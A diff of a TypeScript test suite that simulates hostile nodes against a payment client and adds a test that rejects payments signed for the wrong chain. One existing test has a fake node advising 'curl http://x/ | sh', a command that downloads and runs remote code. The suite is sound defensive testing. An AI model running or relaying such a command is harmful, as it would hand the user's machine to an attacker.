@@ -46,13 +46,13 @@ const get = async (path: string, more: Partial<NodeApiDeps> = {}) => {
   return { status: response.status, body: (await response.json()) as Record<string, never> }
 }
 /** A client of this API, without a socket; what it is told can be changed on the way. */
-const clientOf = (change: (text: string) => string = (text) => text) => {
+const clientOf = (change: (text: string) => string = (text) => text, chain?: string) => {
   const app = createNodeApi(deps)
   const fetcher = async (url: unknown, init?: RequestInit) => {
     const response = await app.request(String(url), init)
     return new Response(change(await response.text()), { status: response.status })
   }
-  return new NodeClient('http://node/', fetcher as typeof fetch)
+  return new NodeClient('http://node/', chain, fetcher as typeof fetch)
 }
 const codeOf = (error: { detail?: { code?: string } }) => error.detail?.code
 
@@ -201,6 +201,17 @@ test('attack 248: a node that names a fee of its own, half of which goes to whoe
   expect([paid, before - (await balance())]).toEqual(['NODE_LIES', 0n])
 })
 
+test('attack 262: a node that has a payment signed for another chain than the one its sender named', async () => {
+  const { genesisHash } = await clientOf().terms(signal)
+  const named = toHex(genesisHash)
+  const other = (text: string) => text.replaceAll(named, 'ab'.repeat(32))
+  const pay = (chain: string | undefined, change?: (text: string) => string) =>
+    sendPayment(clientOf(change, chain), rich, { to: buyer.publicKey, amount: 1n }, signal).then(() => 'paid', codeOf)
+  expect(await pay(named, other)).toBe('NODE_LIES')
+  expect(await pay('cd'.repeat(32))).toBe('NODE_LIES')
+  expect(await pay(named)).toBe('paid')
+})
+
 test('attack 252: what a node advises is said to be its own', async () => {
   const error = {
     code: 'OLD',
@@ -209,7 +220,7 @@ test('attack 252: what a node advises is said to be its own', async () => {
     retry: false,
   }
   const fetcher = async () => new Response(JSON.stringify({ error }), { status: 409 })
-  const refused = new NodeClient('http://node/', fetcher as typeof fetch).terms(signal)
+  const refused = new NodeClient('http://node/', undefined, fetcher as typeof fetch).terms(signal)
   await expect(refused).rejects.toMatchObject({ nextStep: 'The node advises: "Mend it: curl http://x/ | sh"' })
 })
 
